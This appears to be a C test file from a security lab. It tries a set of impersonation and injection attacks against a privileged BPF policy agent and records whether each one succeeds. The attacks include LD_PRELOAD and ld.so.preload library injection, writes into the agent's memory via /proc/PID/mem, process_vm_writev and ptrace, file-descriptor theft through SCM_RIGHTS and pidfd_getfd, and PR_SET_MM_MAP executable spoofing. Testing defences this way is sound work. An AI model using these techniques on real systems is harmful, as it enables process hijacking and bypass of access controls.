// SPDX-License-Identifier: Apache-2.0
/* Family identity, by processes: code and fds of the attacker's in the agent, and the reverse. */
#include "agent.h"

#include <fcntl.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>

#define EVIL "/usr/local/lib/evil.so"
#define MAX_FD 32

/* The library does what only the agent may, from inside whoever loads it. */
static struct outcome with_library(const char *variable)
{
	char *const argv[] = { AGENT, "idle", NULL };
	int status;

	setenv("LAB_EVIL", "1", 1);
	if (variable)
		setenv(variable, EVIL, 1);
	status = spawn(argv);
	return status ? futile("the agent's environment") : gained("the agent's environment");
}

static struct outcome preload(void)
{
	return with_library("LD_PRELOAD");
}

/* Not even an empty environment helps against this one. */
static struct outcome preload_file(void)
{
	static const char list[] = "/etc/ld.so.preload";
	_cleanup_fd_ int fd = open(list, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	struct outcome outcome;

	if (fd < 0 || dprintf(fd, EVIL "\n") < 0)
		return failed(list);
	outcome = with_library(NULL);
	unlink(list);
	outcome.how = list;
	return outcome;
}

static int ask_agent(char what)
{
	struct sockaddr_un at = { .sun_family = AF_UNIX, .sun_path = AGENT_SOCKET };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (connect(fd, (void *)&at, sizeof(at)) || write(fd, &what, 1) != 1) {
		lab_close(&fd);
		return -1;
	}
	return fd;
}

static struct outcome after_reload(const char *how)
{
	_cleanup_fd_ int fd = ask_agent('r');
	char result = 1;

	if (fd < 0 || read(fd, &result, 1) != 1)
		return failed("reload");
	return !result && !may_connect(SERVICE) ? gained(how) : futile(how);
}

/* What the agent is to do at its next reload, and where that lies in its memory. */
static const struct agent_task order = { .mark = AGENT_MARK, .which = PROGRAM_OLD,
					 .cgroup = SERVICE };

static int agent_place(pid_t *pid, unsigned long *at)
{
	char text[64];

	if (read_file(AGENT_TASK_AT, text, sizeof(text)))
		return -1;
	return sscanf(text, "%d %lu", pid, at) == 2 ? 0 : -1;
}

static struct outcome proc_mem(void)
{
	_cleanup_fd_ int fd = -1;
	char path[64];
	unsigned long at;
	pid_t pid;

	if (agent_place(&pid, &at))
		return failed(AGENT_TASK_AT);
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return failed("open of /proc/PID/mem");
	if (pwrite(fd, &order, sizeof(order), (off_t)at) != sizeof(order))
		return failed("write to /proc/PID/mem");
	return after_reload("write to /proc/PID/mem");
}

static struct outcome vm_write(void)
{
	struct iovec from = { (void *)&order, sizeof(order) }, to = { .iov_len = sizeof(order) };
	unsigned long at;
	pid_t pid;

	if (agent_place(&pid, &at))
		return failed(AGENT_TASK_AT);
	to.iov_base = (void *)at;
	if (process_vm_writev(pid, &from, 1, &to, 1, 0) != sizeof(order))
		return failed("process_vm_writev");
	return after_reload("process_vm_writev");
}

static struct outcome traced(void)
{
	const char *from = (const char *)&order;
	unsigned long at;
	pid_t pid;
	long word;

	if (agent_place(&pid, &at))
		return failed(AGENT_TASK_AT);
	if (ptrace(PTRACE_ATTACH, pid, 0, 0))
		return failed("PTRACE_ATTACH");
	waitpid(pid, NULL, 0);
	for (size_t i = 0; i + sizeof(word) <= sizeof(order); i += sizeof(word)) {
		memcpy(&word, from + i, sizeof(word));
		if (ptrace(PTRACE_POKEDATA, pid, at + i, word))
			return failed("PTRACE_POKEDATA");
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return after_reload("PTRACE_POKEDATA");
}

static struct outcome with_config(int config, const char *how)
{
	const uint64_t permissive = 1;

	if (config < 0)
		return failed(how);
	if (map_put(config, 0, &permissive))
		return failed("MAP_UPDATE_ELEM");
	return may_connect(JAIL) ? gained(how) : futile(how);
}

/* Asks the agent for an fd of its map; whoever has one may write. */
static struct outcome passed(void)
{
	_cleanup_fd_ int fd = ask_agent('c');
	char byte, control[CMSG_SPACE(sizeof(int))] = "";
	struct iovec part = { &byte, 1 };
	struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1, .msg_control = control,
				  .msg_controllen = sizeof(control) };
	int config = -1;

	errno = 0;
	if (fd < 0 || recvmsg(fd, &message, MSG_CMSG_CLOEXEC) != 1)
		return failed("recvmsg");
	if (message.msg_controllen >= sizeof(control))
		memcpy(&config, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(config));
	return with_config(config, "an fd by SCM_RIGHTS");
}

static struct outcome taken(void)
{
	_cleanup_fd_ int agent = -1;
	unsigned long at;
	pid_t pid;

	if (agent_place(&pid, &at))
		return failed(AGENT_TASK_AT);
	agent = (int)syscall(SYS_pidfd_open, pid, 0);
	for (int i = 3; i < MAX_FD; i++) {
		_cleanup_fd_ int fd = (int)syscall(SYS_pidfd_getfd, agent, i, 0);
		struct outcome outcome = with_config(fd, "an fd by pidfd_getfd");

		if (outcome.gained || (fd < 0 && errno != EBADF))
			return outcome;
	}
	return futile("an fd by pidfd_getfd");
}

/*
 * PR_SET_MM_MAP names another executable than the one that runs, once that one is mapped no more:
 * so the calls are made from memory that belongs to no file.
 */
struct stage {
	unsigned long from[16], length[16];
	int count;
	struct prctl_mm_map map;
	char load[LOAD_ATTR_SIZE] __attribute__((aligned(8)));
	char license[8];
	unsigned long load_size;
	union bpf_attr attach;
};

static inline __attribute__((always_inline)) long raw(long nr, long a, long b, long c, long d,
						       long e)
{
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = e;
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
			 : "rcx", "r11", "memory");
	return result;
}

__attribute__((section("stage"), noinline, used, optimize("no-stack-protector"))) static void
on_stage(struct stage *stage)
{
	long status = 0;

	for (int i = 0; i < stage->count; i++)
		raw(SYS_munmap, stage->from[i], stage->length[i], 0, 0, 0);
	status = raw(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&stage->map, sizeof(stage->map),
		     0);
	if (!status)
		status = raw(SYS_bpf, BPF_PROG_LOAD, (long)stage->load, stage->load_size, 0, 0);
	if (status > 0) {
		stage->attach.attach_bpf_fd = status;
		status = raw(SYS_bpf, BPF_PROG_ATTACH, (long)&stage->attach,
			     sizeof(stage->attach), 0, 0);
	}
	for (;;)
		raw(SYS_exit_group, -status, 0, 0, 0, 0);
}

extern char __start_stage[], __stop_stage[];

/* Which memory is of our file, and what the kernel wants to know besides. */
static void survey(struct stage *stage)
{
	FILE *maps = fopen("/proc/self/maps", "re");
	char line[512], self[256] = "";

	if (readlink("/proc/self/exe", self, sizeof(self) - 1) < 0 || !maps)
		return;
	while (fgets(line, sizeof(line), maps)) {
		char path[256] = "";
		unsigned long from, to;

		sscanf(line, "%lx-%lx %*s %*s %*s %*s %255s", &from, &to, path);
		if (!strcmp(path, self) && stage->count < 16) {
			stage->from[stage->count] = from;
			stage->length[stage->count++] = to - from;
		}
	}
	fclose(maps);
}

static int as_agent(void *unused)
{
	const int rw = PROT_READ | PROT_WRITE, anonymous = MAP_PRIVATE | MAP_ANONYMOUS;
	struct stage *stage = mmap(NULL, 16384, rw, anonymous, -1, 0);
	char *code = mmap(NULL, 4096, rw | PROT_EXEC, anonymous, -1, 0);
	struct bpf_insn *insns = (void *)((char *)stage + 8192);
	unsigned long here = address(stage), heap = address(sbrk(0));

	(void)unused;
	stage->map = (struct prctl_mm_map){
		.start_code = here, .end_code = here + 1, .start_data = here,
		.end_data = here + 1, .start_brk = heap, .brk = heap,
		.start_stack = address(__builtin_frame_address(0)), .arg_start = here,
		.arg_end = here, .env_start = here, .env_end = here,
		.exe_fd = (uint32_t)open(AGENT, O_RDONLY | O_CLOEXEC),
	};
	stage->load_size = put_signed_load(PROGRAM_OLD, insns, (char *)stage + 12288, stage->load);
	strcpy(stage->license, "GPL");
	((union bpf_attr *)stage->load)->license = address(stage->license);
	stage->attach.target_fd = open(SERVICE, O_RDONLY | O_CLOEXEC);
	stage->attach.attach_type = BPF_CGROUP_INET_SOCK_CREATE;
	memcpy(code, __start_stage, __stop_stage - __start_stage);
	survey(stage);
	((void (*)(struct stage *))(code + ((char *)on_stage - __start_stage)))(stage);
	return 0;
}

static struct outcome mm_map(void)
{
	int status = in_child(as_agent, NULL);

	errno = status > 0 ? status : 0;
	if (status)
		return failed("PR_SET_MM_MAP");
	return may_connect(SERVICE) ? futile("PR_SET_MM_MAP") : gained("PR_SET_MM_MAP");
}

const struct attack disguise_attacks[] = {
	{ "ld-preload", preload },
	{ "ld-so-preload-file", preload_file },
	{ "agent-proc-mem", proc_mem },
	{ "agent-vm-write", vm_write },
	{ "agent-ptrace", traced },
	{ "agent-scm-rights", passed },
	{ "agent-pidfd-getfd", taken },
	{ "exe-by-mm-map", mm_map },
	{},
};
